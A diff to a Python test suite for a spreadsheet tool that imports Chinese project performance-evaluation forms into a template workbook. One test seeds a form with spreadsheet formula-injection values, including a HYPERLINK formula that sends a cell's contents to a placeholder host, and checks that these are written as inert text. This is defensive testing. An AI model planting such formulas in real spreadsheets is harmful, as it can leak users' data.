@@ -200,7 +200,9 @@ def test_xls_check_writes_a_new_workbook_beside_it(tmp_path: Path) -> None:
     assert str(out.name) in result.output and out.exists()
     assert other.read_bytes() == before
     from openpyxl import load_workbook
-    assert load_workbook(out).sheetnames == ["自评表", "检查结果"]
+    assert load_workbook(out).sheetnames == ["填表说明", "项目信息", "资金明细", "绩效指标", "下拉选项",
+                                             "自评表", "检查结果"]
+    assert model(load_project(out)) == model(load_project(other))   # the form's data, as template
 
 
 def test_docx_appendix_reads_as_the_xlsx(tmp_path: Path) -> None:
@@ -307,3 +309,68 @@ def test_batch_takes_a_folder_of_mixed_forms(tmp_path: Path) -> None:
     rows = [row for _, row in run_batch(files, BatchOptions(), jobs=1)]
     assert len(rows) == 5
     assert all(r["status"] != UNREADABLE for r in rows), rows
+
+
+# ---- perf-xlsx import -----------------------------------------------------------------------
+def _invoke(*args: str):
+    from click.testing import CliRunner
+
+    from perf_xlsx.cli import cli
+
+    return CliRunner().invoke(cli, list(args))
+
+
+@pytest.mark.parametrize("fmt", ["xlsx", "docx"])
+def test_import_writes_the_template_with_the_forms_data(tmp_path: Path, fmt: str) -> None:
+    info, indicators = seed(WEB)
+    if fmt == "docx":
+        form = build_docx_report(tmp_path / "报告.docx", info, indicators)
+    else:
+        form = build_form(tmp_path / "表.xlsx", info, indicators, FormLayout(money_unit="元"))
+    before = form.read_bytes()
+    result = _invoke("import", str(form), "-o", str(tmp_path / "项目.xlsx"))
+    assert result.exit_code == 0, result.output
+    assert "资金明细" in result.output          # the form has no expense lines: said
+    imported = load_project(tmp_path / "项目.xlsx")
+    assert imported.form is None and imported.template_version
+    assert model(imported) == model(load_project(form))
+    assert form.read_bytes() == before
+
+
+def test_import_refuses_the_template_and_existing_files(tmp_path: Path) -> None:
+    sample = ROOT / "samples" / "2018-website-publicity.xlsx"
+    assert _invoke("import", str(sample), "-o", str(tmp_path / "x.xlsx")).exit_code == 2
+    info, indicators = seed(WEB)
+    form = build_form(tmp_path / "f.xlsx", info, indicators)
+    (tmp_path / "f-模板.xlsx").write_bytes(b"mine")
+    result = _invoke("import", str(form))
+    assert result.exit_code == 2 and (tmp_path / "f-模板.xlsx").read_bytes() == b"mine"
+    assert _invoke("import", str(form), "--force").exit_code == 0
+    assert load_project(tmp_path / "f-模板.xlsx").name.text == info["project_name"]
+    assert _invoke("import", str(form), "-o", str(tmp_path / "x.csv")).exit_code == 2
+
+
+def test_import_one_workbook_per_form(tmp_path: Path) -> None:
+    from openpyxl import Workbook
+
+    wb = Workbook()
+    build_form(tmp_path / "two.xlsx", *seed(0), sheet="项目一", workbook=wb)
+    build_form(tmp_path / "two.xlsx", *seed(1), sheet="项目二", workbook=wb)
+    assert _invoke("import", str(tmp_path / "two.xlsx")).exit_code == 0
+    assert sorted(p.name for p in tmp_path.glob("two-模板-*.xlsx")) == \
+        ["two-模板-项目一.xlsx", "two-模板-项目二.xlsx"]
+
+
+def test_import_writes_formula_like_text_as_text(tmp_path: Path) -> None:
+    from openpyxl import load_workbook
+
+    info, indicators = seed(WEB)
+    info = {**info, "project_name": '=HYPERLINK("http://x.example/?"&A1,"y")'}
+    indicators = [{**indicators[0], "level3": "+1+2", "deviation": "@SUM(A1)"}, *indicators[1:]]
+    form = build_form(tmp_path / "f.xlsx", info, indicators)
+    assert _invoke("import", str(form), "-o", str(tmp_path / "t.xlsx")).exit_code == 0
+    wb = load_workbook(tmp_path / "t.xlsx")
+    for ws in wb.worksheets:
+        for row in ws.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
